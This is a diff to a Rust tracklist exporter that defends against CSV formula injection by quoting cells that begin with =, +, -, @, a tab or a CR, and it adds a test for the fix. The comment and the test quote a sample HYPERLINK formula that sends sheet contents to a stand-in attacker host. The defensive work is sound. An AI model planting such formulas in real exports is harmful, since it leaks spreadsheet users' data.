@@ -103,13 +103,25 @@ pub fn csv(list: &Tracklist) -> Result<String, TracklistError> {
         "offset_seconds",
     ])
     .map_err(csv_err)?;
-    for row in rows(list) {
+    for mut row in rows(list) {
+        for cell in [&mut row.title, &mut row.artist, &mut row.url] {
+            defuse_formula(cell);
+        }
         w.serialize(row).map_err(csv_err)?;
     }
     let bytes = w
         .into_inner()
         .map_err(|e| TracklistError::Csv(e.to_string()))?;
     String::from_utf8(bytes).map_err(|e| TracklistError::Csv(e.to_string()))
+}
+
+/// A spreadsheet opening the CSV runs a cell that begins with `=`, `+`, `-` or `@` (or a tab or
+/// CR before one) as a formula: a title like `=HYPERLINK("http://evil.example/?x="&A1,"click")`
+/// would become a link that leaks the sheet. A leading `'` makes it text (OWASP's advice).
+fn defuse_formula(cell: &mut String) {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        cell.insert(0, '\'');
+    }
 }
 
 pub fn json(list: &Tracklist) -> Result<String, TracklistError> {
@@ -240,6 +252,23 @@ mod tests {
             "position,title,artist,url,announced_at,offset_seconds\n\
              3,\"a, \"\"b\"\"\",c,\"https://x.test/?a=1,2\",2026-03-12T03:00:00Z,1\n"
         );
+    }
+
+    #[test]
+    fn csv_cells_cannot_be_formulas() {
+        let evil = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
+        let csv = csv(&list(evil, "@SUM(1)", "https://x.test/", 0)).expect("csv");
+        let row = csv.lines().nth(1).expect("row");
+        assert!(
+            row.starts_with("3,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",'@SUM(1),"),
+            "{row}"
+        );
+        for lead in ["+1", "-1", "=1"] {
+            let csv = csv(&list("t", lead, "", 0)).expect("csv");
+            assert!(csv.contains(&format!(",'{lead},")), "{csv}");
+        }
+        let json = json(&list(evil, "a", "", 0)).expect("json");
+        assert!(json.contains("\"title\":\"=HYPERLINK"), "JSON keeps the title: {json}");
     }
 
     #[test]
